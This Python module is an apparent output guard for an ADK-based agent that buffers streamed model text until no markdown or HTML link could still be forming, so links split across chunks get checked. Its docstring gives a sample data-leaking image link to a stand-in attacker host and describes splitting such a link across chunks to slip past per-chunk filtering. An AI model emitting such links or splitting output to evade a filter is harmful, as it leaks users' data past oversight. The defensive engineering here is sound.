"""Streamed text held back while it could still become a link.

Under SSE streaming (`adk web`, `adk api_server`, `RunConfig(streaming_mode=SSE)`) ADK calls the
agent's `after_model_callback` on every partial chunk, and a streaming client renders the
chunks' text joined. A link split across chunks is harmless in each chunk -- `![x](https://`,
then `attacker.example/?d=...)` -- so chunks cannot be judged one by one. Instead each kind of
text of the streamed message (the answer, the thoughts: a client shows them apart) keeps what
has arrived but is not yet settled, and the guard judges and sends only settled text.

Text is settled up to a *cut*: a point after whitespace that no link-like construct crosses,
whatever text comes next. Most links hold no whitespace (bare URLs and addresses, autolinks,
entities, `](target)`), so the last word always waits: the next chunk could extend it. The
constructs of the link grammar (`links`) that may hold whitespace are never cut either, complete
or not -- an HTML tag (held until its `>`), a `<style>` block (until `</style>`), a markdown
destination with its title (`](` until its `)`, or a blank line, which ends any markdown
link), a reference definition (its line, and the next when the destination stands there) --
read in the text as written and with its HTML entities decoded. A markdown link's label may be
cut: its `](target)` arrives whole in a later piece, where the grammar reads it on its own.
Every piece sent then starts after whitespace, outside any such construct, so the pieces joined
show no link that the pieces judged one by one did not.

Held text is bounded (`MAX_HELD` characters): past it the rest of that kind of text is not
streamed at all; the final (non-partial) message, guarded whole, carries it -- ADK's own clients
replace the streamed text with that message. The streams live in the invocation's
`custom_metadata` (one dict per ADK invocation, never sent to a client or stored), keyed by
agent and branch, so concurrent sessions and invocations never share one, and each is dropped
when its message ends. A context without that dict streams no text at all.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from ops_copilot.guards.link_targets import decode
from ops_copilot.guards.links import DESTINATION, REFERENCE, TAG

MAX_HELD = 4096
_STREAMS = "ops_copilot.link_streams"

# A `<` that may open a tag; one the grammar does not read as a whole tag is still open when its
# name runs to the end of the text or is followed by whitespace or `/` (a browser reads on to
# the next `>`, quotes or not). Each checked in constant time: text full of `<` stays linear.
_TAG_OPENER = re.compile(r"<[a-z]", re.IGNORECASE)
_OPEN_TAG = re.compile(r"<[a-z][\w:-]*+(?:[\s/]|\Z)", re.IGNORECASE)
_STYLE = re.compile(r"<style\b[^>]*>[\s\S]*?(?P<end></style\s*>|\Z)", re.IGNORECASE)
_DESTINATION_START = re.compile(r"\]\(")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
# A line that may still become a reference definition: `[label`, `[label]` or `[label]: ...`
# up to the end of the text, or a whole `[label]:` line whose destination may come on the next.
_OPEN_REFERENCE = re.compile(
    r"^[ \t]{0,3}\[[^\]\n]*(?:\]:[ \t]*\n[^\n]*|\](?::[^\n]*)?)?\Z", re.MULTILINE
)


def _spans(text: str) -> Iterator[tuple[int, int | None]]:
    """(start, end) of every construct of `text` that may hold whitespace; end None: still
    open, so any text after its start may belong to it."""
    for opener in _TAG_OPENER.finditer(text):
        tag = TAG.match(text, opener.start())
        if tag:
            yield opener.start(), tag.end()
        elif _OPEN_TAG.match(text, opener.start()):
            yield opener.start(), None
    for style in _STYLE.finditer(text):
        yield style.start(), style.end() if style.group("end") else None
    last_blank = max((b.start() for b in _BLANK_LINE.finditer(text)), default=-1)
    for start in _DESTINATION_START.finditer(text):
        dest = DESTINATION.match(text, start.start())
        if dest:
            yield start.start(), dest.end()
        elif last_blank < start.start():  # a blank line ends any markdown link
            yield start.start(), None
    for ref in REFERENCE.finditer(text):
        yield ref.start(), ref.end()
    ref = _OPEN_REFERENCE.search(text)
    if ref:
        yield ref.start(), None


def _all_spans(text: str) -> list[tuple[int, int | None]]:
    """`_spans` of the text as written and of it with its entities decoded (in positions of
    the text as written): the guard reads `&lt;img ...&gt;` as a tag too."""
    spans = list(_spans(text))
    decoded, starts, ends = decode(text)
    if decoded != text:
        spans += [(starts[s], None if e is None else ends[e - 1]) for s, e in _spans(decoded)]
    return spans


def _word_start(text: str, at: int) -> int:
    """Where the word ending at `at` starts: after ASCII whitespace only, the only whitespace
    that ends a GFM autolink (a no-break space does not)."""
    while at > 0 and text[at - 1] not in " \t\n\r\f\v":
        at -= 1
    return at


def settled(text: str) -> int:
    """How much of `text` (which starts where a cut was) is settled: the last cut, after
    whitespace and inside no construct that may hold whitespace (module docstring)."""
    spans = _all_spans(text)
    cut = _word_start(text, len(text))
    while True:
        inside = [s for s, e in spans if s < cut and (e is None or cut < e)]
        if not inside:
            return cut
        cut = _word_start(text, min(inside))


@dataclass
class Held:
    """One kind of text of a streamed message: what has arrived but is not settled yet."""

    text: str = ""
    stopped: bool = False

    def feed(self, delta: str) -> str:
        """The text settled now that `delta` arrived ("" once the bound was passed)."""
        if self.stopped:
            return ""
        text = self.text + delta
        cut = settled(text)
        self.text = text[cut:]
        if len(self.text) > MAX_HELD:
            self.text, self.stopped = "", True
        return text[:cut]


@dataclass
class StreamedMessage:
    """One streamed model message: its answer and its thoughts held apart, and the session's
    trust (`output_guard.Trust`), read once for the whole message."""

    kinds: dict[bool, Held] = field(default_factory=lambda: {False: Held(), True: Held()})
    trust: Any = None

    def held(self, thought: bool) -> Held:
        return self.kinds[thought]


def _key(callback_context: Any) -> tuple[Any, Any]:
    return getattr(callback_context, "agent_name", None), getattr(callback_context, "branch", None)


def streamed_message(callback_context: Any) -> StreamedMessage | None:
    """The message this partial response continues (a new one after a whole response); None
    when the context has no per-invocation `custom_metadata` to keep it in."""
    streams = getattr(callback_context, "custom_metadata", None)
    if not isinstance(streams, dict):
        return None
    mine = streams.setdefault(_STREAMS, {})
    return mine.setdefault(_key(callback_context), StreamedMessage())


def end_message(callback_context: Any) -> None:
    """The message is whole (a non-partial response): its held text goes with it."""
    streams = getattr(callback_context, "custom_metadata", None)
    if isinstance(streams, dict):
        streams.get(_STREAMS, {}).pop(_key(callback_context), None)
